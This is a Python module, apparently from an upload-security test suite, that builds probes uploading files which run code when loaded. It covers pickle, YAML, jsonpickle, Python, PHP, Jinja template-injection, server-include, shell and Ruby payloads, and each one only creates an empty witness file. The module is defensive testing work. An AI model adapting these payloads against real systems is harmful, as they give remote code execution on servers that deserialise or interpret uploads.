"""Text that is a program to whoever loads it.

What it does
    Uploads text files that are also a pickle, YAML and JSON that name a function to call, an
    expression of Python, a template, a page of PHP; and a pickle under the names of data files
    that are one. Each would create one empty file, and it is looked for.

Why it works
    Some formats of data are programs: to load a pickle is to run it, and so is YAML with a
    loader that makes any object. A target that "imports" what was uploaded, or that tries out
    what it is, runs what its client wrote.

Expected defence
    The bytes of an upload never reach a loader that can call anything, nor an interpreter.

References
    - CWE-502, CWE-94
    - OWASP ASVS v5.0.0-1.5.2, v5.0.0-1.3.2; WSTG-INPV-23, WSTG-INPV-11
    - https://docs.python.org/3/library/pickle.html
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from hypothesis import strategies as st

from attacks.model import (
    GENERATED,
    Attack,
    Body,
    Demand,
    Probe,
    Profile,
    Sample,
    SentFile,
    Severity,
)
from attacks.oracles.confinement import confinement
from attacks.strategies.typed import TEXTS, holding, honest_each, of_types
from attacks.uploads import upload

WITNESS = "gauntlet-loaded"
# mknod(2) without further arguments makes an empty file, for everybody.
PROGRAMS = {
    # protocol 0 is printable; on other systems the module has another name
    "pickle": b"cos\nmknod\n(S'%s'\ntR.",
    "pickle-posix": b"cposix\nmknod\n(S'%s'\ntR.",
    "yaml": b"!!python/object/apply:os.mknod ['%s']\n",
    "json-pickle": b'{"py/reduce": [{"py/function": "os.mknod"}, {"py/tuple": ["%s"]}]}\n',
    "python": b"__import__('os').mknod('%s')\n",
    "php": b"<?php touch('%s'); ?>\n",
    "php-echo-tag": b"<?= touch('%s') ?>\n",
    "php-script-tag": b"<script language=\"php\">touch('%s');</script>\n",
    "path-file": b"import os; os.mknod('%s')\n",
    "template": b"{{ cycler.__init__.__globals__.os.mknod('%s') }}\n",
    "server-include": b"<!--#exec cmd=\"touch '%s'\" -->\n",
    "shell": b"#!/bin/sh\ntouch '%s'\n",
    "ruby": b"File.write('%s', '')\n",
}

HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
# By extension: what stands in front of the pickle. Arrays of objects are one (NEP 1).
OWN = {"pkl": b"", "joblib": b"", "npy": b"\x93NUMPY\x01\0v\0" + HEADER}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each program under an accepted type of text, then each loader's under its own."""
    texts = of_types(profile, *TEXTS)
    loaded = tuple(
        _loaded(profile, sample, name, f"{name}-{sample.extension}")
        for sample in texts[:1]
        for name in PROGRAMS
    )
    return (*loaded, *(_own(profile, extension) for extension in OWN if texts))


def _own(profile: Profile, extension: str) -> Probe:
    witness = _witness()
    file = SentFile(
        filename=f"loaded.{extension}".encode(),
        content=Body((OWN[extension] + PROGRAMS["pickle-posix"] % witness.encode(),)),
        media_type=b"application/octet-stream",
    )
    step = upload(profile, file)
    return Probe(steps=(step,), variant=f"own-{extension}", witnesses=(witness,))


def _witness() -> str:
    return str(Path(tempfile.gettempdir()).resolve() / WITNESS)


def _loaded(
    profile: Profile, sample: Sample, name: str, variant: str = GENERATED, front: bytes = b""
) -> Probe:
    witness = _witness()
    return holding(
        profile,
        sample,
        front + PROGRAMS[name] % witness.encode(),
        variant=variant,
        demand=Demand.EITHER,
        witnesses=(witness,),
    )


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw a type of text, a program, and what honest readers skip in front of it."""
    samples = of_types(profile, *TEXTS)
    if not samples:
        return st.nothing()
    return st.builds(
        lambda sample, name, front: _loaded(profile, sample, name, front=front),
        st.sampled_from(samples),
        st.sampled_from([*PROGRAMS]),
        st.sampled_from((b"", b"\n", b"# a line\n", b"name,value\n", b"---\n", b"<html>\n")),
    )


ATTACK = Attack(
    id="content.code-in-upload",
    title="An upload that is loaded as a program",
    severity=Severity.CRITICAL,
    controls=("safe-deserialisation",),
    cwe=(502, 94),
    asvs=("v5.0.0-1.5.2", "v5.0.0-1.3.2"),
    wstg=("WSTG-INPV-23", "WSTG-INPV-11"),
    oracles=(confinement,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *TEXTS),
)
